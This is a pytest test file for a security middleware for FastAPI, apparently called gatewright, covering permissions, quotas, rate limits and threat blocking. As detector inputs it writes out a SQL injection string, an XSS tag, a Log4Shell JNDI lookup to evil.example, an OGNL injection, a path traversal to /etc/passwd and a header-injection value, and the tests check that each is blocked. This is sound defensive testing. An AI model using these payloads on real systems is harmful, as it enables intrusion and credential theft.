"""The way of a request: order, quota, modes, and what the application behind may rely on."""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Annotated, Any

import httpx
import pytest
from fastapi import Depends, FastAPI
from msgspec.structs import replace

from gatewright.foundation import SecurityFoundation
from gatewright.policy import ActionRate
from gatewright.rbac import ManufacturerContext
from gatewright.testing import ListSink
from gatewright.web import GatewrightMiddleware, PathRules, RouterRules, RouteRule, install, requires
from tests.web.conftest import Join

ATTACK = {"q": "x' UNION SELECT email, password FROM accounts --"}

Uploader = Annotated[ManufacturerContext, Depends(requires("upload_products", consumes="product_uploads"))]


@pytest.fixture
def events(foundation: SecurityFoundation) -> ListSink:
    sink = ListSink()
    foundation.sink.add(sink)
    return sink


@pytest.fixture
def app(foundation: SecurityFoundation) -> FastAPI:
    """An application of someone's own, with one route for each thing that can happen."""
    own = FastAPI()

    @own.post("/upload")
    async def upload_route(body: dict[str, Any], caller: Uploader) -> dict[str, Any]:
        return {"by": caller.manufacturer_id}

    @own.post("/fails")
    async def fails(caller: Uploader) -> None:
        raise RuntimeError("planted secret 4711")

    @own.post("/shadow")
    async def shadow(
        body: dict[str, Any], caller: Annotated[ManufacturerContext, Depends(requires(inspection="shadow"))]
    ) -> dict[str, Any]:
        return body

    @own.post("/bulk")
    async def bulk(caller: Annotated[ManufacturerContext, Depends(requires("bulk_operations"))]) -> None:
        return None

    @own.post("/both")
    async def both(
        caller: Annotated[ManufacturerContext, Depends(requires(consumes={"api_calls": 1, "data_exports": 6}))],
    ) -> None:
        return None

    @own.get("/open")
    async def open_route() -> dict[str, bool]:
        return {"open": True}

    install(own, foundation)
    return own


async def used(foundation: SecurityFoundation, who: dict[str, Any], resource: str = "product_uploads") -> int:
    return int(await foundation.rbac.get_current_usage(who["manufacturer_id"], resource))


async def test_a_served_request_costs_one_unit_and_makes_one_event(
    http: httpx.AsyncClient, foundation: SecurityFoundation, join: Join, events: ListSink
) -> None:
    owner = await join()
    events.events.clear()
    answer = await http.post("/upload", json={"name": "chair"}, headers=owner["headers"])
    assert answer.json() == {"by": owner["manufacturer_id"]}
    assert answer.headers["ratelimit-policy"].startswith('"requests";q=600;w=60')
    assert await used(foundation, owner) == 1
    assert events.kinds() == ["web:request:served"]
    assert events.events[0].data["granted"] == ["upload_products"] and events.events[0].data["took"] == {
        "product_uploads": 1
    }


async def test_an_attack_is_refused_costs_nothing_and_names_no_rule(
    http: httpx.AsyncClient, foundation: SecurityFoundation, join: Join, events: ListSink
) -> None:
    owner = await join()
    answer = await http.post("/upload", json=ATTACK, headers=owner["headers"])
    assert answer.status_code == 403 and answer.json()["code"] == "THREAT_DETECTED"
    assert "sql" not in answer.text.lower()
    assert await used(foundation, owner) == 0
    blocked = next(e for e in events.events if e.kind == "threats:request:blocked")
    assert blocked.data["findings"][0]["threat_type"] == "sql_injection"


async def test_attacks_in_path_query_and_headers_are_seen(http: httpx.AsyncClient) -> None:
    for arguments in (
        {"url": "/open", "params": {"q": "<script>alert(1)</script>"}},
        {"url": "/open", "headers": {"user-agent": "${jndi:ldap://evil.example/a}"}},
        {"url": "/open", "headers": {"content-type": "%{(#a=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#b='x')}"}},
        {"url": "/..%2f..%2f..%2fetc%2fpasswd"},
    ):
        answer = await http.get(**arguments)
        assert (answer.status_code, answer.json()["code"]) == (403, "THREAT_DETECTED"), arguments


async def test_shadow_mode_records_and_lets_through(http: httpx.AsyncClient, join: Join, events: ListSink) -> None:
    owner = await join()
    assert (await http.post("/shadow", json=ATTACK, headers=owner["headers"])).json() == ATTACK
    assert "threats:request:seen" in events.kinds()


async def test_what_the_application_fails_at_is_given_back_and_tells_nothing(
    http: httpx.AsyncClient, foundation: SecurityFoundation, join: Join
) -> None:
    owner = await join()
    answer = await http.post("/fails", json={}, headers=owner["headers"])
    assert answer.status_code == 500 and answer.json()["code"] == "INTERNAL_ERROR"
    assert "4711" not in answer.text
    assert await used(foundation, owner) == 0


async def test_a_missing_permission_is_refused_before_anything_is_read(
    http: httpx.AsyncClient, foundation: SecurityFoundation, join: Join
) -> None:
    owner = await join()
    answer = await http.post("/bulk", json=ATTACK, headers=owner["headers"])
    assert (answer.status_code, answer.json()["code"]) == (403, "INSUFFICIENT_PERMISSIONS")
    assert answer.json()["required_tier"] == "enterprise"
    violations = await foundation.rbac.get_permission_violations(owner["manufacturer_id"])
    assert [v.permission for v in violations] == ["bulk_operations"]


async def test_several_resources_are_taken_all_or_none(
    http: httpx.AsyncClient, foundation: SecurityFoundation, join: Join
) -> None:
    owner = await join()
    answer = await http.post("/both", json={}, headers=owner["headers"])
    assert (answer.status_code, answer.json()["code"]) == (429, "QUOTA_EXCEEDED")
    assert answer.json()["resource"] == "data_exports" and int(answer.headers["retry-after"]) > 0
    assert await used(foundation, owner, "api_calls") == 0


async def test_the_quota_ends_where_it_must(
    http: httpx.AsyncClient, foundation: SecurityFoundation, join: Join
) -> None:
    owner = await join()
    await foundation.rbac.increment_usage(owner["manufacturer_id"], "product_uploads", 99)
    first = await http.post("/upload", json={}, headers=owner["headers"])
    second = await http.post("/upload", json={}, headers=owner["headers"])
    assert (first.status_code, second.status_code) == (200, 429)
    assert second.json()["limit"] == second.json()["current"] == 100 and second.json()["resets_at"].endswith("Z")


async def test_a_tier_change_reaches_the_rate_of_a_token_that_was_made_before(
    http: httpx.AsyncClient, foundation: SecurityFoundation, join: Join
) -> None:
    owner = await join(tier="free")
    path = "/open"
    before = (await http.get(path, headers=owner["headers"])).headers["ratelimit-policy"]
    await foundation.rbac.update_manufacturer_tier(owner["manufacturer_id"], "enterprise", reason="contract signed")
    after = (await http.get(path, headers=owner["headers"])).headers["ratelimit-policy"]
    tiers = foundation.policy.tiers
    assert f";q={tiers['free'].requests_per_minute};" in before
    assert f";q={tiers['enterprise'].requests_per_minute};" in after


async def test_a_reloaded_policy_reaches_rates_and_level(
    http: httpx.AsyncClient, foundation: SecurityFoundation, join: Join
) -> None:
    owner = await join(tier="free")
    old = foundation.policy
    tiers = {**old.tiers, "free": replace(old.tiers["free"], requests_per_minute=7)}
    actions = {**old.actions, "product_upload": ActionRate(limit=3, period=60)}
    new = replace(old, tiers=tiers, actions=actions, detection=replace(old.detection, level=3))
    await foundation.rbac.reload_policy(new)
    answered = await http.get("/open", headers=owner["headers"])
    assert ";q=7;" in answered.headers["ratelimit-policy"]
    assert (await foundation.validator.check_rate_limit("m", "product_upload")).limit == 3
    assert foundation.policy is new and foundation.controls.detection_level() == 3


async def test_a_tier_change_counts_at_once(
    http: httpx.AsyncClient, foundation: SecurityFoundation, join: Join
) -> None:
    owner = await join(tier="enterprise")
    assert (await http.post("/bulk", headers=owner["headers"])).status_code == 200
    await foundation.rbac.update_manufacturer_tier(owner["manufacturer_id"], "free", reason="contract ended")
    assert (await http.post("/bulk", headers=owner["headers"])).status_code == 403


async def test_too_many_requests_are_told_to_wait(http: httpx.AsyncClient) -> None:
    for _ in range(300):
        assert (await http.get("/open")).status_code == 200
    answer = await http.get("/open")
    assert (answer.status_code, answer.json()["code"]) == (429, "RATE_LIMIT_EXCEEDED")
    assert int(answer.headers["retry-after"]) >= 1 and answer.headers["ratelimit"].startswith('"anonymous_request";r=0')


async def test_a_plain_request_id_is_kept_and_another_is_replaced(http: httpx.AsyncClient) -> None:
    kept = await http.get("/open", headers={"x-request-id": "client-id-0001"})
    assert kept.headers["x-request-id"] == "client-id-0001"
    forged = await http.get("/open", headers={"x-request-id": 'x" injected="1'})
    assert "injected" not in forged.headers["x-request-id"]


async def test_a_route_that_the_middleware_did_not_check_does_not_run(
    foundation: SecurityFoundation, join: Join
) -> None:
    """Were the rules not found (another router in front, say), the route refuses instead of being open."""
    owner = await join()
    own = FastAPI()

    @own.post("/bulk")
    async def bulk(caller: Annotated[ManufacturerContext, Depends(requires("bulk_operations"))]) -> None:
        return None

    outer = GatewrightMiddleware(own, foundation, PathRules(default=RouteRule()))
    transport = httpx.ASGITransport(outer, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
        answer = await client.post("/bulk", headers=owner["headers"])
    assert answer.status_code == 500


async def test_rules_by_path_protect_any_application(foundation: SecurityFoundation, join: Join) -> None:
    async def plain(scope: Any, receive: Any, send: Any) -> None:
        body = (await receive())["body"]
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": body})

    rules = PathRules([("POST", "/products/{id}/*", RouteRule(auth="required", permission="bulk_operations"))])
    protected = GatewrightMiddleware(plain, foundation, rules)
    owner, rich = await join(), await join(tier="enterprise")
    transport = httpx.ASGITransport(protected)
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as client:
        assert (await client.post("/products/1/x", content=b"a")).status_code == 401
        assert (await client.post("/products/1/x", content=b"a", headers=owner["headers"])).status_code == 403
        assert (await client.post("/products/1/x", content=b"a", headers=rich["headers"])).content == b"a"
        assert (await client.post("/other", content=b"b")).status_code == 403
    opened = GatewrightMiddleware(plain, foundation, PathRules(default=RouteRule()))
    async with httpx.AsyncClient(transport=httpx.ASGITransport(opened), base_url="http://test") as client:
        assert (await client.post("/other", content=b"b")).content == b"b"


async def test_websockets_do_not_slip_past(foundation: SecurityFoundation) -> None:
    async def never(scope: Any, receive: Any, send: Any) -> None:
        raise AssertionError("the application ran")

    protected = GatewrightMiddleware(never, foundation, PathRules(default=RouteRule(auth="required")))
    sent: list[Any] = []

    async def receive() -> dict[str, Any]:
        return {"type": "websocket.connect"}

    async def send(message: Any) -> None:
        sent.append(message)

    scope = {"type": "websocket", "path": "/live", "query_string": b"", "headers": [], "client": ("192.0.2.1", 1)}
    await protected(scope, receive, send)
    assert sent == [{"type": "websocket.close", "code": 1008, "reason": "TOKEN_MISSING"}]


def test_two_permissions_on_one_route_are_a_mistake_that_is_named() -> None:
    own = FastAPI()
    first, second = Depends(requires("upload_products")), Depends(requires("export_data"))

    @own.get("/x", dependencies=[first, second])
    async def route() -> None:
        return None

    with pytest.raises(ValueError, match="two permissions"):
        RouterRules(own).resolve({"type": "http", "method": "GET", "path": "/x", "root_path": "", "headers": []})


@pytest.fixture
async def blocked(foundation: SecurityFoundation) -> AsyncIterator[None]:
    from gatewright.controls import Measure

    foundation.controls.apply(
        Measure(measure_id="m", kind="block", scope="network:198.51.100.0/24", created_at=foundation.clock.now())
    )
    yield
    foundation.controls.remove("m")


@pytest.mark.usefixtures("blocked")
async def test_a_blocked_network_is_refused(http: httpx.AsyncClient) -> None:
    answer = await http.get("/open")
    assert (answer.status_code, answer.json()["code"]) == (429, "BLOCKED")
